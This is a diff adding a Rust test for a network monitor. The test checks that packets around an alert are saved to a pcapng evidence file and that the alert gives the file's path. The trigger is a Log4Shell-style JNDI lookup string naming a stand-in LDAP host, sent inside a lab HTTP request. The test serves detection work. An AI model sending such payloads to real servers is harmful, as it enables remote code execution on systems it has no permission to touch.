@@ -302,3 +302,46 @@ fn what_is_wrong_with_a_feed_is_said_at_the_start() {
     let path = feed.0.display().to_string();
     assert!(ended.stderr.iter().any(|line| line.contains(&format!("{path}:2: "))), "{:#?}", ended.stderr);
 }
+
+#[test]
+fn packets_of_an_incident_are_kept_and_the_alert_says_where() {
+    let lab = lab_with(&[1, 2]);
+    let dir = std::env::temp_dir().join(format!("netwatch-evidence-{}", std::process::id()));
+    let netwatch = Netwatch::start(lab.watched(), &format!("--evidence {}", dir.display()));
+    let (mut client, mut server) = connect(&lab, host(1), 8_080);
+    say(
+        &mut client,
+        &mut server,
+        &[b"GET /?x=${jndi:ldap://203.0.113.1/a} HTTP/1.1\r\nHost: a.example\r\n\r\n"],
+    );
+    // What comes after the alert is kept, both ways; of others nothing is.
+    thread::sleep(Duration::from_millis(300));
+    say(&mut server, &mut client, &[b"HTTP/1.1 404 Not Found\r\n\r\n"]);
+    let (mut other, mut served) = connect(&lab, host(2), 8_081);
+    say(&mut other, &mut served, &[b"GET / HTTP/1.1\r\nHost: a.example\r\n\r\n"]);
+    thread::sleep(Duration::from_millis(300));
+    let alerts = netwatch.alerts();
+    let path = alerts[0]["alert"]["context"]["evidence_file"].as_str().expect("a file").to_owned();
+    assert!(path.starts_with(dir.to_str().unwrap()), "{path}");
+    assert_eq!(
+        fs::read_dir(&dir)
+            .unwrap()
+            .filter(|entry| { entry.as_ref().unwrap().path().extension().is_some_and(|end| end == "pcapng") })
+            .count(),
+        1
+    );
+    let bytes = fs::read(&path).unwrap();
+    let holds = |part: &[u8]| bytes.windows(part.len()).any(|window| window == part);
+    assert!(holds(b"${jndi:ldap://203.0.113.1/a}"), "the packet that matched");
+    assert!(holds(b"404 Not Found"), "the answer");
+    assert!(holds(b"payload.match"), "the alert");
+    assert!(!holds(&host(2).octets()), "somebody else");
+    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
+    let mut captures = netwatch::capture::Captures::open_until(&[path.into()], &stop).unwrap();
+    let mut packets = 0;
+    while captures.next().is_some() {
+        packets += 1;
+    }
+    assert!((3..=64).contains(&packets), "{packets} packets");
+    fs::remove_dir_all(&dir).unwrap();
+}
